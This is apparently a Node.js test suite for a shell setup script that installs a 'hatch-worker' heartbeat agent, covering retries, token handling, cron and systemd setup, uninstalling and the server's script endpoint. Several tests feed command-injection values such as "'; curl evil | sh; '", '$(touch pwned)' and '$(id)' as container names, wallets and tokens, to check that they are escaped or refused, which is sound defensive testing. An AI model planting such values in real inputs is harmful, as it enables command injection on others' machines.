// The workers' set-up script, run for real: piped into a shell, on a machine of
// its own, against an API with good and bad responses.

import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, mkdir, readFile, readdir, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { problem, startWorker } from "./support/harness.js";
import { ADMIN_TOKEN, as, misspelled, newStellarWallet, people } from "./support/people.js";
import { TOKEN, WALLET, processesWith, setupScript, startMachine, which } from "./support/machine.js";

const SHELLS = ["dash", "bash", "busybox"];
const limit = { timeout: 60_000 };
/** Skips a test without this program, but not in CI, where every test must run. */
const needs = (program) => ({ ...limit, skip: !process.env.CI && !which(program) && `no ${program} on this machine` });

const between = (low, high, { seconds }) =>
  assert.ok(low <= seconds && seconds <= high, `${seconds} seconds are not from ${low} to ${high}`);

test("the script and the agent that it installs pass shellcheck", needs("shellcheck"), async (t) => {
  const machine = await startMachine(t);
  await machine.setup("beat");
  for (const text of [setupScript({ api: "https://hatch.example" }), await machine.read("hatch-worker")]) {
    const { status, stdout } = spawnSync(which("shellcheck") ?? assert.fail("no shellcheck"), ["--shell=sh", "-"], { input: text, encoding: "utf8" });
    assert.equal(status, 0, stdout);
  }
});

test("each placeholder occurs once, where the Worker is to fill it in", async () => {
  const text = await readFile(new URL("../src/fleet/setup.sh", import.meta.url), "utf8");
  for (const name of ["WALLET", "TOKEN", "API"]) {
    assert.deepEqual(text.split("\n").filter((line) => line.includes(`@${name}@`)), [`${name}='@${name}@'`]);
  }
});

for (const shell of SHELLS) {
  test(`it installs, beats, shows its status and uninstalls without a trace, under ${shell}`, needs(shell), async (t) => {
    const machine = await startMachine(t, { shell });
    await machine.docker("web\t0.0.0.0:8080->80/tcp, :::8080->80/tcp\nworker\t\n");

    const installed = await machine.setup();
    assert.equal(installed.code, 0, installed.said);
    const { body, headers } = await machine.beat();
    assert.equal(headers.authorization, `Bearer ${TOKEN}`);
    assert.deepEqual(Object.keys(body), ["walletAddress", "timestamp", "hostname", "containers", "system"]);
    assert.equal(body.walletAddress, WALLET);
    assert.match(body.timestamp, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    assert.ok(Math.abs(Date.parse(body.timestamp) - Date.now()) < 60_000);
    assert.equal(body.hostname, execFileSync("uname", ["-n"], { encoding: "utf8" }).trim());
    assert.deepEqual(body.containers, [{ containerName: "web", port: "8080" }, { containerName: "worker" }]);
    assert.deepEqual(Object.keys(body.system), [
      "cpuUsagePercent", "cpus", "cpuCores", "memTotalMb", "memUsedMb", "ramTotalGb", "ramUsedGb", "load1", "diskUsedPercent",
      "storageTotalGb", "storageUsedGb", "uptimeSeconds",
    ]);
    for (const [name, value] of Object.entries(body.system)) assert.ok(Number.isFinite(value) && value >= 0, `${name} ${value}`);
    assert.ok(body.system.cpuUsagePercent <= 100 && body.system.ramUsedGb <= body.system.ramTotalGb && body.system.storageUsedGb <= body.system.storageTotalGb);
    assert.ok(body.system.cpus >= 1 && body.system.memUsedMb <= body.system.memTotalMb && body.system.diskUsedPercent <= 100);

    const pause = await machine.pause();
    between(270, 330, pause);
    pause.wake();
    await machine.beat();

    const running = await machine.setup("status");
    assert.equal(running.code, 0, running.said);
    assert.match(running.said, /accepted by .*\n.*active, process \d+\n$/s);
    assert.match(await readFile(machine.crontab, "utf8"), /^@reboot \/bin\/sh \S+\/home\/hatch-worker start # hatch-worker\n$/);

    const removed = await machine.setup("uninstall");
    assert.equal(removed.code, 0, removed.said);
    assert.deepEqual(processesWith(machine.home), []);
    assert.equal(existsSync(machine.home), false);
    assert.equal(existsSync(machine.crontab), false);
    assert.equal((await machine.setup("status")).code, 1);
  });

  test(`no response stops it, and each sets its interval, under ${shell}`, needs(shell), async (t) => {
    const machine = await startMachine(t, { shell });
    const retryAfter = (seconds) => ({ "retry-after": String(seconds) });
    const wish = (nextBeatSeconds) => ({ body: { success: true, nextBeatSeconds } });
    const schedule = [
      [{ status: 503 }, 15, 22],
      [{ hangUp: true }, 30, 45],
      [{ status: 500, body: { detail: "no \"luck\" $(exit) `exit`" } }, 60, 90],
      [{ status: 429 }, 120, 180],
      [{ status: 502 }, 200, 300],
      [{ status: 504 }, 200, 300],
      [{ status: 429, headers: retryAfter(700) }, 700, 770],
      [{ status: 503, headers: retryAfter(700) }, 700, 770],
      [{ status: 429, headers: retryAfter("99999999999999999999") }, 3600, 3960],
      [{ status: 429, headers: retryAfter("Fri, 31 Dec 2100 23:59:59 GMT") }, 200, 300],
      [{ status: 200 }, 270, 330],
      [{ status: 429, headers: retryAfter(0) }, 15, 22],
      [{ status: 401 }, 270, 330],
      [{ status: 403 }, 270, 330],
      [{ status: 400 }, 270, 330],
      [{ status: 301, headers: { location: "/elsewhere" } }, 270, 330],
      [{ ...wish(900), status: 422 }, 270, 330],
      [wish(60), 54, 66],
      [wish(1500), 1350, 1650],
      [wish(600), 540, 660],
      [wish(59), 540, 660],
      [wish(1501), 540, 660],
      [wish(90.5), 540, 660],
      [wish("900"), 540, 660],
      [wish(-900), 540, 660],
      [{ status: 503 }, 15, 22],
    ];
    machine.api.answer(...schedule.map(([answer]) => answer));
    await machine.setup();
    for (const [answer, low, high] of schedule) {
      await machine.beat();
      const pause = await machine.pause();
      assert.ok(low <= pause.seconds && pause.seconds <= high, `${pause.seconds} seconds after ${JSON.stringify(answer)}`);
      pause.wake();
    }
    await machine.beat();
    const log = await machine.read("log");
    assert.match(log, /answered 503/);
    assert.match(log, /no answer from/);
    assert.match(log, /answered 500 "no /);
    assert.match(log, /refuses this machine's token \(401\)/);
  });
}

test("it beats again when an unreachable API is back", limit, async (t) => {
  const machine = await startMachine(t);
  await machine.api.close();
  await machine.setup();
  const first = await machine.pause();
  between(15, 22, first);
  first.wake();
  const second = await machine.pause();
  between(30, 45, second);
  await machine.api.listen();
  second.wake();
  await machine.beat();
  between(270, 330, await machine.pause());
  assert.match(await machine.read("log"), /no answer from .*(refused|connect)/);
});

test("a refused token is logged once in a while, not with every beat", limit, async (t) => {
  const machine = await startMachine(t);
  machine.api.answer(...Array(25).fill({ status: 401 }));
  await machine.setup();
  for (let beats = 0; beats < 25; beats++) {
    await machine.beat();
    (await machine.pause()).wake();
  }
  await machine.beat();
  await machine.pause();
  assert.equal((await machine.read("log")).match(/refuses this machine's token/g).length, 3);
});

test("the intervals can be shortened for a test, and invalid ones are refused", limit, async (t) => {
  const machine = await startMachine(t);
  machine.api.answer({ status: 503 });
  await machine.setup("", { env: { HATCH_INTERVAL: "20", HATCH_RETRY: "2" } });
  await machine.beat();
  const retry = await machine.pause();
  between(2, 3, retry);
  retry.wake();
  await machine.beat();
  between(18, 22, await machine.pause());
  for (const seconds of ["0", "x", "-1", "1.5", "1;id", "999999999999"]) {
    const { code, said } = await machine.setup("beat", { env: { HATCH_INTERVAL: seconds } });
    assert.equal(code, 1, said);
    assert.match(said, /whole seconds/);
  }
});

test("installing again replaces the one that runs", limit, async (t) => {
  const machine = await startMachine(t);
  await machine.setup();
  await machine.beat();
  const before = await machine.pause();
  const [first] = processesWith(`${machine.home}/hatch-worker`);

  const token = TOKEN.replace("a", "b");
  assert.equal((await machine.setup("", { token })).code, 0);
  await before.ended;
  assert.equal((await machine.beat()).headers.authorization, `Bearer ${token}`);
  await machine.pause();
  const running = processesWith(`${machine.home}/hatch-worker`);
  assert.equal(running.length, 1);
  assert.notEqual(running[0], first);
  assert.equal((await readFile(machine.crontab, "utf8")).split("\n").length, 2);
});

for (const client of ["curl", "wget"]) {
  test(`with ${client} the token is in a file only its owner reads, and in no command line or environment`, needs(client), async (t) => {
    const machine = await startMachine(t, { client });
    machine.api.answer({ held: true }, { status: 429, headers: { "retry-after": "500" } }, { body: { nextBeatSeconds: 600 } });
    await machine.setup();
    const beat = await machine.beat();
    assert.equal(beat.headers.authorization, `Bearer ${TOKEN}`);
    assert.notEqual(processesWith("/heartbeat").length, 0);
    assert.deepEqual(processesWith(TOKEN), []);
    for (const pid of processesWith(machine.home)) assert.equal((await readFile(`/proc/${pid}/environ`, "utf8")).includes(TOKEN), false);
    for (const name of await readdir(machine.home)) {
      const { mode } = await stat(join(machine.home, name));
      assert.equal(mode & 0o077, 0, name);
      if (name !== "auth") assert.equal((await machine.read(name)).includes(TOKEN), false, name);
    }
    assert.equal((await stat(join(machine.home, "auth"))).mode & 0o777, 0o600);

    beat.release();
    for (const [low, high] of [[270, 330], [500, 550], [540, 660]]) {
      const pause = await machine.pause();
      between(low, high, pause);
      pause.wake();
      await machine.beat();
    }
    await machine.pause();
    await machine.setup("uninstall");
    assert.equal(existsSync(machine.home), false);
  });
}

for (const shell of SHELLS) {
  test(`whatever containers and machines are called, the beat is JSON, under ${shell}`, needs(shell), async (t) => {
    const machine = await startMachine(t, { shell });
    await machine.fake("uname", String.raw`printf '%s\n' 'we"ird\n\\host	é $(id)'`);
    await machine.docker(
      [
        `say "hi"\t0.0.0.0:80->80/tcp`,
        String.raw`back\slash \n \" \u0041 %s %d` + "\t",
        "bell\u0007 escape\u001b tab\there\t127.0.0.1:49153->80/tcp",
        "größe-日本-🦊\t[::]:443->443/tcp, 0.0.0.0:443->443/tcp",
        "broken",
        "name\t9000/tcp, 0.0.0.0:8000-8009->80-89/tcp",
        "'; curl evil | sh; '\t80/tcp",
        "-n\t:80->80/tcp",
        "",
        "\t0.0.0.0:1->1/tcp",
        "$(touch pwned) `touch pwned` & &&\t0.0.0.0:5x->1/tcp",
      ].join("\n") + "\n",
    );
    const { code, said } = await machine.setup("beat");
    assert.equal(code, 0, said);
    const { body } = await machine.beat();
    assert.equal(body.hostname, 'we"ird\\n\\\\host\té $(id)');
    assert.deepEqual(body.containers, [
      { containerName: 'say "hi"', port: "80" },
      { containerName: String.raw`back\slash \n \" \u0041 %s %d` },
      { containerName: "bell\u0007 escape\u001b tab\there", port: "49153" },
      { containerName: "größe-日本-🦊", port: "443" },
      { containerName: "broken" },
      { containerName: "name", port: "8000" },
      { containerName: "'; curl evil | sh; '" },
      { containerName: "-n", port: "80" },
      { containerName: "$(touch pwned) `touch pwned` & &&" },
    ]);
  });
}

test("a thousand containers are one beat", limit, async (t) => {
  const machine = await startMachine(t);
  await machine.docker(Array.from({ length: 1000 }, (_, n) => `c${n}-${"x".repeat(500)}\t0.0.0.0:${n + 1}->80/tcp\n`).join(""));
  assert.equal((await machine.setup("beat")).code, 0);
  assert.equal((await machine.beat()).body.containers[999].port, "1000");
});

test("without docker, or with one that fails half-way, the machine still beats", limit, async (t) => {
  const machine = await startMachine(t);
  assert.equal((await machine.setup("beat")).code, 0);
  assert.deepEqual((await machine.beat()).body.containers, []);
  await machine.fake("docker", "printf 'web\\t\\n'; echo 'Cannot connect to the Docker daemon' >&2; exit 1");
  assert.equal((await machine.setup("beat")).code, 0);
  assert.deepEqual((await machine.beat()).body.containers, []);
});

test("a single beat prints its result", limit, async (t) => {
  const machine = await startMachine(t);
  machine.api.answer({ status: 401 }, { status: 422, body: { detail: "the timestamp is ahead\u001b[2J" } });
  const refused = await machine.setup("beat");
  assert.deepEqual([refused.code, /refuses this machine's token/.test(refused.said)], [1, true]);
  const invalid = await machine.setup("beat");
  assert.match(invalid.said, /answered 422 "the timestamp is ahead/);
  assert.equal(invalid.said.includes("\u001b"), false);
});

test("a refusal says why and leaves nothing behind", limit, async (t) => {
  const machine = await startMachine(t, { client: null });
  const api = machine.api.origin;
  const refuses = async (reason, command, options) => {
    const { code, said } = await machine.setup(command, options);
    assert.notEqual(code, 0, said);
    assert.match(said, reason);
    assert.equal(existsSync(machine.home), false);
  };
  await refuses(/neither curl nor GNU wget/, "");
  await refuses(/unknown command/, "remove");
  await refuses(/nothing is installed/, "uninstall");
  await refuses(/absolute path/, "", { env: { HATCH_HOME: "home" } });
  await refuses(/letters, digits/, "", { env: { HATCH_HOME: `${machine.home}/$(id) x` } });
  for (const wallet of ["@WALLET@", WALLET.slice(1), `${WALLET}0`, WALLET.toUpperCase(), `0x${"g".repeat(40)}`]) {
    await refuses(/the wallet/, "", { text: setupScript({ wallet, api }) });
  }
  for (const token of ["@TOKEN@", `${TOKEN}0`, `sk_${TOKEN.slice(3)}`, `${TOKEN.slice(0, -1)}"`]) {
    await refuses(/the token/, "", { text: setupScript({ token, api }) });
  }
  for (const bad of ["@API@", "ftp://hatch.example", "https://", "https://hatch.example/path", "https://a b", "https://user@host"]) {
    await refuses(/the API/, "", { text: setupScript({ api: bad }) });
  }
  const nobody = process.getuid() === 0 ? { uid: 65534, gid: 65534, cwd: "/" } : {};
  await chmod(join(machine.home, ".."), 0o755);
  await refuses(/run this as root/, "", { env: { HATCH_HOME: "" }, ...nobody });
});

test("an incomplete download does nothing", limit, async (t) => {
  const machine = await startMachine(t);
  const script = setupScript({ api: machine.api.origin });
  const end = script.lastIndexOf("\nmain ");
  for (let length = 0; length <= end; length += 397) {
    await machine.setup("", { text: script.slice(0, length) });
    assert.equal(existsSync(machine.home), false, `${length} bytes`);
  }
});

test("uninstalling ends a beat that hangs", limit, async (t) => {
  const machine = await startMachine(t);
  machine.api.answer({ held: true });
  await machine.setup();
  await machine.beat();
  assert.equal((await machine.setup("uninstall")).code, 0);
  assert.deepEqual(processesWith(machine.home), []);
});

test("uninstalling removes only its own files", limit, async (t) => {
  const machine = await startMachine(t);
  await writeFile(machine.crontab, "# mine\n0 4 * * * echo 100%\n");
  await mkdir(machine.home);
  await writeFile(join(machine.home, "notes"), "mine");
  await machine.setup();
  await machine.beat();
  await machine.pause();
  assert.match(await readFile(machine.crontab, "utf8"), /^# mine\n0 4 \* \* \* echo 100%\n@reboot [^\n]+\n$/);
  assert.match((await machine.setup("uninstall")).said, /is kept: it holds files that are not ours/);
  assert.equal(await readFile(machine.crontab, "utf8"), "# mine\n0 4 * * * echo 100%\n");
  assert.deepEqual(await readdir(machine.home), ["notes"]);
});

test("a crontab that cannot be read is not written", limit, async (t) => {
  const machine = await startMachine(t);
  await machine.fake("crontab", `[ "$1" = -l ] || : >'${machine.crontab}'; echo 'you are not allowed' >&2; exit 1`);
  const { code, said } = await machine.setup();
  assert.equal(code, 0);
  assert.match(said, /will NOT start again after a reboot/);
  await machine.beat();
  assert.equal(existsSync(machine.crontab), false);
});

test("a stale pid file does not get a stranger killed", limit, async (t) => {
  const machine = await startMachine(t);
  await machine.setup("beat");
  await machine.beat();
  await writeFile(join(machine.home, "pid"), `${process.pid}\n`);
  assert.equal((await machine.setup("status")).code, 3);
  assert.equal((await machine.setup("uninstall")).code, 0);
  assert.equal(existsSync(machine.home), false);
});

// A mount namespace of its own, so that /etc and /opt stay as they are.
const canUnshare = spawnSync("unshare", ["--user", "--map-root-user", "--mount", "true"]).status === 0;

test("with systemd it becomes a service", { ...limit, skip: !canUnshare && "no mount namespaces here" }, async (t) => {
  const machine = await startMachine(t);
  await machine.fake("systemctl", `echo "$*" >>/opt/systemctl.log; [ "$1" != is-active ] || echo active`);
  const text = join(machine.bin, "../setup.sh");
  await writeFile(text, setupScript({ api: machine.api.origin }));
  const shell = `
    mount -t tmpfs none /opt && mount -t tmpfs none /etc/systemd && mkdir -p /etc/systemd/system
    mount -t tmpfs none /run && mkdir -p /run/systemd/system
    PATH=${machine.bin}; unset HATCH_HOME; set -e
    sh ${text}
    sh ${text} status
    sh ${text}
    ${which("ls")} -l /opt/hatch-worker >&2
    cat /etc/systemd/system/hatch-worker.service
    sh ${text} uninstall
    ${which("find")} /opt /etc/systemd -type f
    cat /opt/systemctl.log`;
  const { status, stdout, stderr } = spawnSync("unshare", ["--user", "--map-root-user", "--mount", which("dash"), "-c", shell], {
    encoding: "utf8",
  });
  assert.equal(status, 0, stdout + stderr);
  assert.match(stderr, /-rw------- .* auth\n/);
  const unit = stdout.slice(stdout.indexOf("[Unit]"), stdout.indexOf("WantedBy"));
  for (const line of [
    "ExecStart=/bin/sh /opt/hatch-worker/hatch-worker run",
    "Restart=always",
    "NoNewPrivileges=yes",
    "ProtectSystem=strict",
    "ReadWritePaths=/opt/hatch-worker",
  ]) {
    assert.ok(unit.split("\n").includes(line), line);
  }
  assert.equal(unit.includes(TOKEN), false);
  const after = stdout.slice(stdout.indexOf("uninstalled\n")).trim().split("\n");
  const enable = ["daemon-reload", "enable --quiet --now hatch-worker.service"];
  assert.deepEqual(after, [
    "uninstalled",
    "/opt/systemctl.log",
    ...enable,
    "is-active hatch-worker.service",
    "stop hatch-worker.service", // by the version that was there
    "stop hatch-worker.service",
    ...enable,
    "stop hatch-worker.service",
    "disable --quiet hatch-worker.service",
    "daemon-reload",
  ]);
});

const worker = await startWorker({ ENVIRONMENT: "production", RATE_LIMITS: "off", ADMIN_TOKEN });
const script = (query) => worker.api("GET", `/api/setup?${new URLSearchParams(query)}`);

test("the script that the Worker serves makes a machine beat, until its token is revoked", limit, async (t) => {
  const { signIn, ok } = people(worker);
  const { token: session } = await signIn();
  const { walletAddress: wallet, token } = await ok("POST", "/workers", {}, session);
  const served = await script({ wallet: `0x${wallet.slice(2).toUpperCase()}`, token });
  assert.equal(served.status, 200);
  assert.match(served.headers.get("content-type"), /^text\/x-shellscript/);
  assert.equal(served.headers.get("cache-control"), "no-store");
  const text = await served.text();
  assert.equal(text, setupScript({ wallet, token, api: worker.url }));

  const machine = await startMachine(t);
  await machine.docker("web\t0.0.0.0:8080->80/tcp\n");
  const installed = await machine.setup("", { text });
  assert.equal(installed.code, 0, installed.said);
  // It rests after a beat that has arrived.
  const pause = await machine.pause();
  between(270, 330, pause);
  const { status, window, hostname } = await ok("GET", `/workers/${wallet}`, undefined, session);
  assert.equal(status, "HEALTHY");
  assert.ok(Math.abs(Date.parse(window.endTime) - Date.now()) < 60_000);
  assert.equal(hostname, execFileSync("uname", ["-n"], { encoding: "utf8" }).trim());
  assert.deepEqual(await ok("GET", `/workers/${wallet}/containers`, undefined, session), [
    { containerName: "web", name: "web", port: "8080", cpuPercent: 0, memUsageMb: 0 },
  ]);
  assert.match((await machine.setup("status", { text })).said, /accepted by/);

  // With a revoked token it keeps sending, and changes nothing.
  assert.equal((await worker.api("DELETE", `/workers/${wallet}`, undefined, as(session))).status, 204);
  pause.wake();
  between(270, 330, await machine.pause());
  assert.match(await machine.read("log"), /refuses this machine's token \(401\)/);
  assert.deepEqual((await ok("GET", `/workers/${wallet}`, undefined, session)).window, window);

  assert.equal((await machine.setup("uninstall", { text })).code, 0);
  assert.equal(existsSync(machine.home), false);
  assert.deepEqual(processesWith(machine.home), []);
});

test("a Stellar key is a machine's wallet too", limit, async (t) => {
  const { signIn, ok } = people(worker);
  const { address } = newStellarWallet();
  const machine = await startMachine(t);
  await machine.setup("", { text: setupScript({ wallet: address, api: machine.api.origin }) });
  assert.equal((await machine.beat()).body.walletAddress, address);
  await machine.pause();

  const { token: session, wallet } = await signIn(newStellarWallet());
  const { token } = await ok("POST", "/workers", {}, session);
  const served = await script({ wallet: wallet.address, token });
  assert.equal(await served.text(), setupScript({ wallet: wallet.address, token, api: worker.url }));
  for (const bad of misspelled(wallet.address)) await problem(await script({ wallet: bad, token }), 400, "validation_failed");
});

test("a script with an invalid wallet refuses to run", limit, async (t) => {
  const machine = await startMachine(t);
  const { address } = newStellarWallet();
  for (const wallet of ["", "0x12", `0x${"G".repeat(40)}`, address.toLowerCase(), address.slice(1), `${address}A`, `${address.slice(0, -1)}1`, `${address.slice(0, -1)};`]) {
    const { code, said } = await machine.setup("", { text: setupScript({ wallet, api: machine.api.origin }) });
    assert.equal(code, 1, `${wallet}: ${said}`);
    assert.match(said, /wallet|Stellar key/);
  }
  assert.equal(existsSync(machine.home), false);
});

test("in development the script has its own token, but not for pages and never in production", limit, async (t) => {
  const development = await startWorker({ HEARTBEAT_AUTH: "required" });
  const { address: wallet } = newStellarWallet();
  const get = (headers, method = "GET", at = development) => at.api(method, `/api/setup?wallet=${wallet}`, undefined, headers);
  const served = await get();
  assert.equal(served.status, 200);
  assert.equal(served.headers.get("cache-control"), "no-store");
  const text = await served.text();
  const [, token] = text.match(/^TOKEN='(wk_[0-9A-Za-z]{49})'$/m);
  assert.equal(text, setupScript({ wallet, token, api: development.url }));

  const machine = await startMachine(t);
  assert.equal((await machine.setup("", { text })).code, 0);
  await machine.pause();
  const known = async () => (await development.api("GET", `/workers/${wallet}`)).json();
  const { status, cpuCores, ramTotalGb, storageTotalGb } = await known();
  assert.equal(status, "HEALTHY");
  for (const figure of [cpuCores, ramTotalGb, storageTotalGb]) assert.ok(figure > 0);
  const [metric] = await (await development.api("GET", `/workers/${wallet}/metrics`)).json();
  assert.equal(metric.ramTotalGb, ramTotalGb);

  // Pages, HEAD, requests with a credential and empty tokens create no token, and the machine's own one still works.
  const hash = async () => (await development.sql("SELECT token_hash FROM workers WHERE wallet = ?", wallet))[0].token_hash;
  const before = await hash();
  for (const site of ["cross-site", "same-site"]) await problem(await get({ "sec-fetch-site": site }), 400, "validation_failed");
  assert.equal((await get({}, "HEAD")).status, 400);
  await problem(await get(as(token)), 400, "validation_failed");
  await problem(await development.api("GET", `/api/setup?wallet=${wallet}&token=`), 400, "validation_failed");
  assert.equal(await hash(), before);
  assert.equal((await get({ "sec-fetch-site": "none" })).status, 200);
  assert.notEqual(await hash(), before);

  for (const headers of [{}, as(ADMIN_TOKEN), as((await people(worker).signIn()).token)]) {
    await problem(await get(headers, "GET", worker), 400, "validation_failed");
  }
  assert.deepEqual(await worker.sql("SELECT * FROM workers WHERE wallet = ?", wallet), []);
});

test("the Worker puts nothing into the script but a wallet, a token and its own address", limit, async () => {
  const { signIn, ok } = people(worker);
  const { token: session } = await signIn();
  const { walletAddress: wallet, token } = await ok("POST", "/workers", {}, session);
  const shell = "';curl evil|sh;'";
  for (const bad of [shell, `${wallet}${shell}`, `${wallet}\n`, "", wallet.slice(2), `${wallet}0`, `0x${"g".repeat(40)}`, "@WALLET@"]) {
    await problem(await script({ wallet: bad, token }), 400, "validation_failed");
  }
  for (const bad of [shell, `${token}${shell}`, `${token}\n`, "", "wk_", token.slice(0, -1), `${token}0`, session, "@TOKEN@", "$(id)"]) {
    await problem(await script({ wallet, token: bad }), 400, "validation_failed");
  }
  await problem(await script({ wallet, token: TOKEN }), 401, "unauthorized");
  await problem(await script({ token }), 400, "validation_failed");
  await problem(await script({ wallet }), 400, "validation_failed");
});
